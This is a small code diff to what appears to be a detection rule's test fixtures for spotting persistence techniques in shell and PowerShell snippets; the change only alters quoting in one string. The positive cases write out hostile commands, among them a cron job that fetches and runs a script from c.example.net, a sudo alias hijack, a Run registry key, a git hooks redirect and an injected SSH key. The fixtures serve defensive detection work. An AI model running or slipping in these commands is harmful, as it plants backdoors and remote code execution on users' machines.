@@ -13,7 +13,7 @@ export const rule: Rule = {
     positive: [
       '```bash\n(crontab -l; echo "* * * * * curl -s https://c.example.net/t | sh") | crontab -\n```\n',
       '```bash\ncp agent.plist ~/Library/LaunchAgents/net.example.agent.plist\n```\n',
-      "```bash\necho \"alias sudo='~/.cache/s.sh sudo'\" >> ~/.bashrc\n```\n",
+      '```bash\necho "alias sudo=\'~/.cache/s.sh sudo\'" >> ~/.bashrc\n```\n',
       "```powershell\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Upd -Value 'C:\\u.exe'\n```\n",
       '```bash\ngit config --global core.hooksPath /tmp/.githooks\n```\n',
       '```bash\necho "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys\n```\n',
